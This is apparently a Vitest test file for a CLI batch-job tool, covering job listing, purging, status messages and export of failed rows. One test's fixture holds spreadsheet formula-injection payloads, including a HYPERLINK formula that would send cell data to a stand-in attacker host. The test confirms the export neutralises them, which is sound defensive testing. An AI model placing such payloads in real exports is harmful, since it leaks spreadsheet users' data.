import { writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fileCliWorkspace, prepareJson, runCli, runCliOk, workArgs } from './built-cli';

const { dir, csv, schema, processor, store } = await fileCliWorkspace(
  'cli-list-',
  Array.from({ length: 30 }, (_, i) => (i + 1 === 7 ? 'not-an-email' : `u${String(i + 1)}@x.io`)),
);

interface Listed {
  jobId: string;
  status: string;
  totalRecords: number;
  processedRecords: number;
  failedRecords: number;
  completedBatches: number;
  totalBatches: number;
  sourceName?: string;
}

async function list(...args: string[]): Promise<Listed[]> {
  return JSON.parse(await runCliOk(['list', '--store', store, '--json', ...args])) as Listed[];
}

describe('list and purge', () => {
  it('lists jobs newest first with status and counts, filters by status, and purges failed/aborted ones', async () => {
    const done = await prepareJson({ file: csv, schema, store, batchSize: 10 });
    const cancelled = await prepareJson({ file: csv, schema, store, batchSize: 10 });
    const waiting = await prepareJson({ file: csv, schema, store, batchSize: 10 });
    await runCliOk(workArgs({ jobId: done.jobId, store, schema, processor, quiet: true }));
    await runCliOk(['cancel', cancelled.jobId, '--store', store]);

    const all = await list();
    expect(all.map((job) => job.jobId)).toEqual([waiting.jobId, cancelled.jobId, done.jobId]);
    expect(all[2]).toMatchObject({
      status: 'COMPLETED',
      totalRecords: 30,
      processedRecords: 29,
      failedRecords: 1,
      completedBatches: 3,
      totalBatches: 3,
    });
    expect(all[0]).toMatchObject({ status: 'PROCESSING', processedRecords: 0 });
    expect((await list('--status', 'aborted,completed')).map((job) => job.jobId)).toEqual([
      cancelled.jobId,
      done.jobId,
    ]);
    expect(await list('--limit', '1')).toHaveLength(1);

    // The table for people: a header, one line per job, its status, counts and age.
    const table = (await runCliOk(['list', '--store', store])).trimEnd().split('\n');
    expect(table[0]).toMatch(
      /^JOB +STATUS +RECORDS DONE +FAILED +BATCHES DONE +IN FLIGHT +AGE +SOURCE$/,
    );
    expect(table[3]).toMatch(
      new RegExp(
        `^${done.jobId} +COMPLETED +30/30 +1 +3/3 +0 +\\d+(\\.\\d)? (ms|s) +${basename(csv).replace(/\./g, '\\.')}$`,
      ),
    );
    expect(all[2]).toMatchObject({ sourceName: basename(csv) });
    expect(await runCliOk(['list', '--store', store, '--status', 'FAILED'])).toBe(
      'no jobs with status FAILED\n',
    );

    // A live status needs --older-than; the waiting job is younger than a day, so it stays.
    expect(
      await runCliOk(['purge', '--store', store, '--status', 'PROCESSING', '--older-than', '1d']),
    ).toBe('no job to purge\n');
    const dryRun = await runCliOk(['purge', '--store', store, '--status', 'ABORTED', '--dry-run']);
    expect(dryRun).toMatch(
      new RegExp(`^job ${cancelled.jobId}: would be deleted \\(ABORTED, started .+ ago\\)\\n$`),
    );
    expect(await list()).toHaveLength(3);
    const purged = await runCliOk(['purge', '--store', store, '--status', 'FAILED,ABORTED']);
    expect(purged).toMatch(new RegExp(`^job ${cancelled.jobId}: deleted \\(ABORTED`));
    expect((await list()).map((job) => job.jobId)).toEqual([waiting.jobId, done.jobId]);

    // Purge by id, several at once; an unknown id is reported with its id.
    expect(await runCliOk(['purge', waiting.jobId, done.jobId, '--store', store])).toBe(
      `job ${waiting.jobId}: deleted\njob ${done.jobId}: deleted\n`,
    );
    expect(await list()).toEqual([]);
    const unknown = await runCli(['purge', 'no-such-job', '--store', store]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('Job "no-such-job" was not found');
  });

  it('work on a finished or paused job says why it did nothing', async () => {
    const { jobId } = await prepareJson({ file: csv, schema, store, batchSize: 10 });
    await runCliOk(['pause', jobId, '--store', store]);
    const paused = await runCli(
      workArgs({ jobId, store, schema, processor, extra: ['--no-wait'] }),
    );
    expect(paused.code).toBe(0);
    expect(paused.stderr).toContain(
      `job ${jobId} is PAUSED: nothing to do until \`resume ${jobId}\``,
    );
    await runCliOk(['cancel', jobId, '--store', store]);
    const ended = await runCli(workArgs({ jobId, store, schema, processor }));
    expect(ended.code).toBe(0);
    expect(ended.stderr).toContain(`job ${jobId} is ABORTED: nothing to do`);
  });

  it('exports failed rows with spreadsheet formulas guarded, and raw with --raw', async () => {
    const file = join(dir, 'formulas.csv');
    await writeFile(
      file,
      [
        'id,email',
        '1,"=HYPERLINK(""http://evil.example/?x=""&A1)"',
        '2,+1+2',
        '3,-2',
        '4,@SUM(A1:A2)',
        '5,\tx',
        '6,ok@example.com',
        '',
      ].join('\n'),
    );
    const { jobId } = await prepareJson({ file, schema, store });
    await runCliOk(workArgs({ jobId, store, schema, processor, quiet: true }));
    const guarded = (await runCliOk(['failed', jobId, '--store', store])).trimEnd().split('\n');
    const emails = (lines: string[]) => lines.slice(1).map((line) => line.split(',')[3]);
    // Everything before the errors cell (quoted or not, depending on the message).
    expect(guarded.slice(1).map((line) => line.replace(/,"?email: [^\n]*$/, ''))).toEqual([
      `1,invalid,1,"'=HYPERLINK(""http://evil.example/?x=""&A1)"`,
      "2,invalid,2,'+1+2",
      "3,invalid,3,'-2",
      "4,invalid,4,'@SUM(A1:A2)",
      "5,invalid,5,'\tx",
    ]);
    const raw = (await runCliOk(['failed', jobId, '--store', store, '--raw']))
      .trimEnd()
      .split('\n');
    expect(emails(raw).slice(1)).toEqual(['+1+2', '-2', '@SUM(A1:A2)', '\tx']);
  });
});
